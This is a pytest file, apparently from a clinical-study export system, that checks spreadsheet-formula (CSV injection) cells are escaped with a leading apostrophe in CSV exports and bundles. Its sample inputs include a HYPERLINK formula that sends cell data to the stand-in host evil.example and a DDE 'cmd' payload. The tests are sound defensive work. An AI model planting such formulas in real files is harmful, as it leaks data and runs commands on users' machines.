"""CSV cells a spreadsheet would run as formulas are written as text (CSV injection)."""

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest

from api.csv_bundle import bundle_to_csv_files, bundle_to_csv_zip, read_csv_bundle
from assessments.models import AdverseEvent, Visit
from exports.spreadsheet import spreadsheet_safe, spreadsheet_unquote
from exports.tabular import csv_zip_stream
from tests.exports.conftest import build_patient

FIXTURES = Path(__file__).resolve().parents[2] / "api" / "fixtures"

ATTACKS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- rash on both arms", "'- rash on both arms"),
]
KEPT = ["-3", "+1.5", "-0.25", "-2.5e-3", "Mild urticaria", "2026-03-02", "", "a=b", "x@example.org", "'quoted"]


@pytest.mark.parametrize(("typed", "written"), ATTACKS)
def test_a_formula_cell_is_written_after_an_apostrophe_and_read_back_as_typed(typed, written):
    assert spreadsheet_safe(typed) == written
    assert spreadsheet_unquote(written) == typed


@pytest.mark.parametrize("typed", KEPT)
def test_numbers_and_ordinary_text_are_written_as_they_are(typed):
    assert spreadsheet_safe(typed) == typed
    assert spreadsheet_unquote(typed) == typed


def _cells(data: bytes, name: str) -> list[list[str]]:
    text = zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_the_csv_export_writes_free_text_formulas_as_text(site_a, clinician):
    patient = build_patient(site_a, clinician, through_day=3)
    AdverseEvent.objects.filter(patient=patient).update(other_specify='=HYPERLINK("http://evil.example","x")')
    Visit.objects.filter(patient=patient, definition__code="D3").update(not_done_reason="@SUM(A1)")
    data = b"".join(csv_zip_stream(site_ids={site_a.pk}))
    aes = _cells(data, "adverse_events.csv")
    column = aes[0].index("AEOTHSP")
    assert aes[1][column] == '\'=HYPERLINK("http://evil.example","x")'
    visits = _cells(data, "visits.csv")
    column = visits[0].index("NDREAS")
    assert "'@SUM(A1)" in [row[column] for row in visits[1:]]
    # No cell of any file starts a formula (numbers such as a negative study day excepted).
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        for row in _cells(data, name):
            for cell in row:
                assert spreadsheet_safe(cell) == cell, f"{name}: {cell!r} would run as a formula"


def test_the_csv_bundle_writes_formulas_as_text_and_reads_them_back_as_typed():
    bundle = json.loads((FIXTURES / "demo_bundle.json").read_text(encoding="utf-8"))
    child = next(c for c in bundle["patients"] if c.get("adverse_events"))
    child["adverse_events"][0]["description"] = "=1+1 then -ve culture"
    files = bundle_to_csv_files(bundle)
    assert "'=1+1 then -ve culture" in files["adverse_events.csv"]
    back, _ = read_csv_bundle(bundle_to_csv_zip(bundle))
    child_back = next(c for c in back["patients"] if c["screening_number"] == child["screening_number"])
    assert child_back["adverse_events"][0]["description"] == "=1+1 then -ve culture"
